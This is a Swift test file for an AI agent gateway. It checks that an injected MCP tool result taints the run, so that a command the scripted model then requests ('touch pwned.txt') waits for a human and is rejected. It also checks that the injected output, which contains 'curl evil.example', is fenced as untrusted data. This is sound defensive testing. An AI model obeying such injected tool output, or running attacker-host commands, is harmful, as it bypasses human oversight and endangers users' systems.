import Foundation
import Hummingbird
import HummingbirdTesting
import OspreyCore
import OspreyGateway
import OspreyMCP
import OspreyStore
import OspreyTesting
import OspreyTools
import Testing

/// `[[mcp_servers]]` through the whole gateway: started with the kernel, granted by name, judged by the one policy.
struct MCPGatewayTests {
    static let fixture = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
        .deletingLastPathComponent().appendingPathComponent("Fixtures/mcp/fixture_server.py").path

    @Test(.timeLimit(.minutes(1))) func anInjectedMCPResultTaintsTheRunAndTheCommandItAsksForWaitsForAHuman()
        async throws
    {
        // Given a gateway with the fixture server, an agent granted its tools and run_command in autonomous mode,
        var config = OspreyConfig()
        var server = OspreyConfig.MCPServer(name: "fx", command: "python3")
        server.args = [Self.fixture]
        config.mcpServers = [server]
        var agent = OspreyConfig.Agent()
        agent.model = "scripted/test"
        agent.tools = ["fx__*", "run_command"]
        agent.approval = "autonomous"
        config.agents["mcp"] = agent
        var everything = OspreyConfig.Agent()
        everything.model = "scripted/test"
        everything.tools = ["*"]
        config.agents["default"] = everything
        config.approvals.timeoutSeconds = 30
        // and a model that calls the server's tool, then obeys what it returned,
        let provider = ScriptedProvider(messages: [
            .toolCall("fx__inject", "{}"),
            .toolCall("run_command", #"{"command":"touch pwned.txt"}"#, id: "call_2"),
            .assistant("done"),
        ])
        let gateway = try await TestGateway(config: config, provider: provider)
        defer { Task { await gateway.kernel.mcp.stop() } }
        // `*` grants Osprey's own tools only; the server's tools are granted by naming the server.
        let runtime = gateway.kernel.runtime
        #expect(!runtime.grantedTools(config.agent("default")).contains { $0.hasPrefix("fx__") })
        let granted = runtime.grantedTools(config.agent("mcp"))
        #expect(granted.contains("fx__inject") && granted.contains("fx__echo") && granted.contains("run_command"))
        #expect(!granted.contains("read_file"))
        let session = try await gateway.store.sessions.create(agent: "mcp", actor: .user("test"))
        let workspace = runtime.workspace.root
        try await gateway.app().test(.router) { client in
            async let reply = client.post("/api/sessions/\(session.id)/messages", #"{"content":"use the server"}"#)
            // when it runs, the command waits for a human: the taint rule, although the agent is autonomous;
            let pending = try await ApprovalSamples.pending(gateway.store)
            #expect(pending.rule == "taint" && pending.tool == "run_command")
            try await client.execute(
                uri: "/api/approvals/\(pending.id)/reject",
                method: .post,
                headers: TestGateway.auth()
            ) {
                #expect($0.status == .ok)
            }
            _ = try await reply
        }
        // then it never ran, and the server's output is in the transcript marked untrusted and fenced as data.
        #expect(!FileManager.default.fileExists(atPath: workspace.appendingPathComponent("pwned.txt").path))
        let results = try await gateway.store.sessions.messages(of: session.id).flatMap(\.message.content)
            .compactMap { content -> ToolResult? in
                if case .toolResult(let result) = content { return result }
                return nil
            }
        let injected = try #require(results.first)
        #expect(injected.untrusted)
        #expect(injected.output.contains("<untrusted-data source=\"fx__inject\">"))
        #expect(injected.output.contains("curl evil.example"))
        // The ledger holds the call like any other tool call.
        let calls = try await gateway.store.ledger.events(limit: 500).filter { $0.type == .toolCallCompleted }
        #expect(calls.contains { $0.payload["tool"]?.stringValue == "fx__inject" })
    }
}
